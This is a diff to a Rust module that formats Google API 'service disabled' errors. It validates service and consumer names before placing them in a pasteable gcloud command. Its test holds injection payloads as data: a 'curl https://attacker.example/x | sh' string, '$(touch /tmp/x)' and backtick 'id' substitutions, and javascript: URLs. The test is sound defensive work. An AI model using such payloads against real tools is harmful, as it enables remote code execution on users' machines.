@@ -5,6 +5,7 @@
 //! and older APIs use the legacy `errors[{reason,message}]` list instead or as well. tokeninfo has
 //! its own OAuth shape, `{"error":"invalid_token","error_description":…}`.
 
+use super::patterns::{consumer_project, is_api_service};
 use serde::{Deserialize, Serialize};
 use std::collections::BTreeMap;
 use std::fmt;
@@ -412,8 +413,13 @@ impl fmt::Display for ApiError {
                 consumer,
                 activation_url,
             } => {
-                let consumer = consumer.strip_prefix("projects/").unwrap_or(consumer);
-                if consumer == GCLOUD_SHARED_PROJECT {
+                // Google's strings go into a sentence with a command to paste: only names that
+                // match the strict patterns are shown at all (a hostile or garbled body gets the
+                // generic sentence, never its text inside a command).
+                let garbled = !service.is_empty() && !is_api_service(service);
+                let service = if garbled { "" } else { service.as_str() };
+                let consumer = consumer_project(consumer).unwrap_or("");
+                if consumer == GCLOUD_SHARED_PROJECT && !service.is_empty() {
                     // Nobody outside Google can enable anything there: name the way out instead.
                     return write!(
                         f,
@@ -431,7 +437,9 @@ impl fmt::Display for ApiError {
                     write!(f, "project {consumer} — ")?;
                 }
                 f.write_str("the project Google charges these requests to (the quota project), which can differ from the project you check.")?;
-                if service.is_empty() {
+                if garbled {
+                    f.write_str(" Google named the API in a form no API name has, so no command is shown: enable it in that project")?;
+                } else if service.is_empty() {
                     write!(f, " Google said: \"{}\" Enable it", google.message)?;
                     if activation_url.is_some() {
                         f.write_str(" in the Cloud console")?;
@@ -904,5 +912,47 @@ mod tests {
         assert_eq!(json["type"], "google");
         assert_eq!(json["kind"]["kind"], "token_expired");
         assert_eq!(json["reason"], "ACCESS_TOKEN_EXPIRED");
+    }
+
+    #[test]
+    fn hostile_service_disabled_bodies_never_reach_a_command() {
+        let body = |service: &str, consumer: &str| {
+            serde_json::json!({"error": {"code": 403, "status": "PERMISSION_DENIED",
+                "message": format!("{service} has not been used in project {consumer} before or it is disabled."),
+                "details": [{"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": "SERVICE_DISABLED",
+                    "domain": "googleapis.com",
+                    "metadata": {"service": service, "consumer": consumer,
+                        "activationUrl": "javascript:alert(document.domain)"}},
+                  {"@type": "type.googleapis.com/google.rpc.Help",
+                    "links": [{"description": "x", "url": "javascript:alert(1)"}]}]}})
+            .to_string()
+        };
+        let evil = "evil; curl https://attacker.example/x | sh;";
+        let text =
+            GoogleError::from_response(403, &body(evil, "projects/410000000001")).to_string();
+        assert!(!text.contains("curl") && !text.contains(';'), "{text}");
+        assert!(!text.contains("gcloud services enable"), "{text}");
+        assert!(text.contains("no command is shown"), "{text}");
+        // A good service with a hostile consumer: the command, without --project.
+        let text = GoogleError::from_response(
+            403,
+            &body("compute.googleapis.com", "projects/1$(touch /tmp/x)"),
+        )
+        .to_string();
+        assert!(
+            text.contains("`gcloud services enable compute.googleapis.com` in that project"),
+            "{text}"
+        );
+        assert!(!text.contains("touch") && !text.contains("$("), "{text}");
+        // The shared-project advice names the service only when it is one.
+        let text = GoogleError::from_response(
+            403,
+            &body(
+                "x`id`.googleapis.com",
+                &format!("projects/{GCLOUD_SHARED_PROJECT}"),
+            ),
+        )
+        .to_string();
+        assert!(!text.contains("`id`"), "{text}");
     }
 }
